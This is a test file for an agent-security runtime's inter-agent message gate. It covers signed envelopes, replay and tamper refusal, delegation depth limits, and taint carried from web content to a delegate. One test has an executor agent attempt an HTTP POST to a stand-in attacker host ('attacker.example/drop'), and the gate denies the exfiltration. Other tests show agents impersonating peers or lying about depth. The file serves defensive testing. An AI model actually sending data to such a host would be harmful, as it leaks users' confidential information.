// The communication gate on a real runtime: policy decides who may talk to whom, every
// message is journaled with a DARE envelope before delivery, and the cross-agent context
// makes a delegate's Gate evaluate against its delegator's taint.
import { afterEach, describe, expect, it } from "vitest";
import { AgentMessageEnvelopeSchema } from "../../src/contracts/index.js";
import { open, SqliteNonceStore, verifyEnvelope } from "../../src/messaging/index.js";
import { type Agents, sealFor, twoAgents } from "./harness.js";

let a: Agents | undefined;
afterEach(async () => {
  await a?.rt.close();
  a = undefined;
});

async function entries(x: Agents, type: string): Promise<Record<string, unknown>[]> {
  const out: Record<string, unknown>[] = [];
  for await (const e of x.rt.store.entries()) if ("type" in e && e.type === type) out.push(e.body as never);
  return out;
}

const WEB = { source: "web" as const, origin: "https://news.example/article" };

describe("communication gate", () => {
  it("delivers an allowed delegation, journaled with a DARE envelope signed by the sender", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("planner", { originalRequest: "Summarise Q3 for the board" });
    const m = sealFor(a, a.planner, a.executor, { runId: run.runId });
    const r = await a.rt.messages.gate.submit(m, "planner");
    expect(r).toMatchObject({ ok: true, messageId: m.header.message_id });
    if (!r.ok) return;
    expect(AgentMessageEnvelopeSchema.safeParse(r.envelope).success).toBe(true);
    expect(verifyEnvelope(r.envelope, a.rt.messages.directory.get("planner")!)).toBe(true);
    const sent = await entries(a, "warden.message.sent");
    expect(sent).toHaveLength(1);
    expect(sent[0]).toMatchObject({ from: "planner", to: "executor", primitive: "delegate", depth: 1 });
    expect((sent[0]!.context as { original_request_summary: string }).original_request_summary).toBe(
      "Summarise Q3 for the board",
    );
    const got = await a.rt.messages.gate.receive("executor");
    expect(got).toHaveLength(1);
    const opened = open(got[0]!.message, a.executor, {
      directory: a.rt.messages.directory,
      nonces: SqliteNonceStore.open(":memory:"),
      now: a.now.t,
    });
    expect(opened.payload).toEqual({ task: "summarise the quarterly report" });
  });

  it("a tainted parent delegates to a sub-agent which then calls an exfiltration tool: denied as tainted", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("planner");
    const fetch = await a.rt.gate.evaluate({
      principalId: "planner",
      runId: run.runId,
      toolClass: "http",
      action: "get",
      parameters: { url: "https://news.example/article" },
    });
    expect(fetch.decision).toBe("allow");
    await a.rt.gate.recordResult(fetch.decisionId!, { taintLabels: [WEB], classification: "confidential" });
    const r = await a.rt.messages.gate.submit(
      sealFor(a, a.planner, a.executor, { runId: run.runId }),
      "planner",
    );
    expect(r.ok).toBe(true);
    const [delivered] = await a.rt.messages.gate.receive("executor");
    expect(delivered!.context.taint.map((t) => t.source)).toContain("web");
    const exfil = {
      principalId: "executor",
      runId: delivered!.runId,
      toolClass: "http",
      action: "post",
      parameters: { url: "https://attacker.example/drop" },
    };
    // Control first (the denial below quarantines the executor): from an operator's clean run of
    // its own the call is allowed (any other new run of the executor carries the web taint in).
    const own = await a.rt.startCleanRun("executor", "operator");
    expect((await a.rt.gate.evaluate({ ...exfil, runId: own.runId })).decision).toBe("allow");
    const denied = await a.rt.gate.evaluate(exfil);
    expect(denied.decision).toBe("deny");
    // Refused for the inherited web taint (the built-in behaviour rule answers before the YAML one).
    expect(denied.reasonCodes.join(" ")).toMatch(/taint/);
    const facts = a.rt.sessions.run(delivered!.runId, "executor").snapshot();
    expect(facts.dataClassificationsSeen).toContain("confidential");
    expect(facts.parentRun).toBe(run.runId);
  });

  it("an agent that talks to someone the policy does not allow is refused and journaled (ERR_MESSAGE_DENIED)", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("planner");
    const r = await a.rt.messages.gate.submit(
      sealFor(a, a.planner, a.mallory, { runId: run.runId }),
      "planner",
    );
    expect(r).toMatchObject({ ok: false, code: "ERR_MESSAGE_DENIED" });
    expect(a.rt.messages.gate.pending("mallory")).toBe(0);
    const refused = await entries(a, "warden.message.refused");
    expect(refused[0]).toMatchObject({ code: "ERR_MESSAGE_DENIED", from: "planner", to: "mallory" });
  });

  it("a primitive or payload type the policy does not allow is refused", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("planner");
    for (const o of [{ primitive: "send" as const }, { payloadType: "escalation" as const }]) {
      const r = await a.rt.messages.gate.submit(
        sealFor(a, a.planner, a.executor, { runId: run.runId, ...o }),
        "planner",
      );
      expect(r).toMatchObject({ ok: false, code: "ERR_MESSAGE_DENIED" });
    }
  });

  it("an agent that submits another agent's message as its own is refused (ERR_MESSAGE_FORBIDDEN)", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("planner");
    const r = await a.rt.messages.gate.submit(
      sealFor(a, a.planner, a.executor, { runId: run.runId }),
      "mallory",
    );
    expect(r).toMatchObject({ ok: false, code: "ERR_MESSAGE_FORBIDDEN" });
  });

  it("an agent that sends from another principal's run is refused (ERR_RUN_UNKNOWN)", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("executor");
    const r = await a.rt.messages.gate.submit(
      sealFor(a, a.planner, a.executor, { runId: run.runId }),
      "planner",
    );
    expect(r).toMatchObject({ ok: false, code: "ERR_RUN_UNKNOWN" });
  });

  it("a message replayed to the gate is refused (ERR_MESSAGE_REPLAYED), also after a restart", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("planner");
    const m = sealFor(a, a.planner, a.executor, { runId: run.runId });
    expect((await a.rt.messages.gate.submit(m, "planner")).ok).toBe(true);
    expect(await a.rt.messages.gate.submit(m, "planner")).toMatchObject({ code: "ERR_MESSAGE_REPLAYED" });
    const nonces = SqliteNonceStore.open(`${a.dir}/journal.db.messages.db`);
    try {
      expect(nonces.claim(`gate:planner:${m.header.nonce}`, a.now.t + 1000, a.now.t)).toBe("replayed");
    } finally {
      nonces.close();
    }
  });

  it("an agent that lies about its delegation depth is refused, and the depth bound holds", async () => {
    a = await twoAgents({ maxDepth: 1 });
    const run = await a.rt.startRun("planner");
    const lie = await a.rt.messages.gate.submit(
      sealFor(a, a.planner, a.executor, { runId: run.runId, depth: 0 }),
      "planner",
    );
    expect(lie).toMatchObject({ ok: false, code: "ERR_MESSAGE_DENIED", reasonCodes: ["depth_mismatch"] });
    expect(
      (await a.rt.messages.gate.submit(sealFor(a, a.planner, a.executor, { runId: run.runId }), "planner"))
        .ok,
    ).toBe(true);
    const [d] = await a.rt.messages.gate.receive("executor");
    // The executor's delegated run sends at depth 2, beyond maxDepth 1.
    const deeper = await a.rt.messages.gate.submit(
      sealFor(a, a.executor, a.planner, {
        runId: d!.runId,
        primitive: "send",
        payloadType: "return_result",
        depth: 2,
      }),
      "executor",
    );
    expect(deeper).toMatchObject({ ok: false, reasonCodes: ["depth_exceeded"] });
  });

  it("a full inbox refuses the next message (ERR_MESSAGE_INBOX_FULL)", async () => {
    a = await twoAgents({ inbox: { maxPerSender: 256, maxPerSenderPerRecipient: 256 } });
    const run = await a.rt.startRun("planner");
    for (let i = 0; i < 256; i++) {
      const r = await a.rt.messages.gate.submit(
        sealFor(a, a.planner, a.executor, { runId: run.runId }),
        "planner",
      );
      expect(r.ok).toBe(true);
    }
    const over = await a.rt.messages.gate.submit(
      sealFor(a, a.planner, a.executor, { runId: run.runId }),
      "planner",
    );
    expect(over).toMatchObject({ ok: false, code: "ERR_MESSAGE_INBOX_FULL" });
  });

  it("a forged message never reaches policy or the inbox (ERR_MESSAGE_TAMPERED)", async () => {
    a = await twoAgents();
    const run = await a.rt.startRun("planner");
    const m = sealFor(a, a.planner, a.executor, { runId: run.runId });
    const forged = { ...m, header: { ...m.header, primitive: "race" } };
    expect(await a.rt.messages.gate.submit(forged, "planner")).toMatchObject({
      code: "ERR_MESSAGE_TAMPERED",
    });
    expect(a.rt.messages.gate.pending("executor")).toBe(0);
  });
});
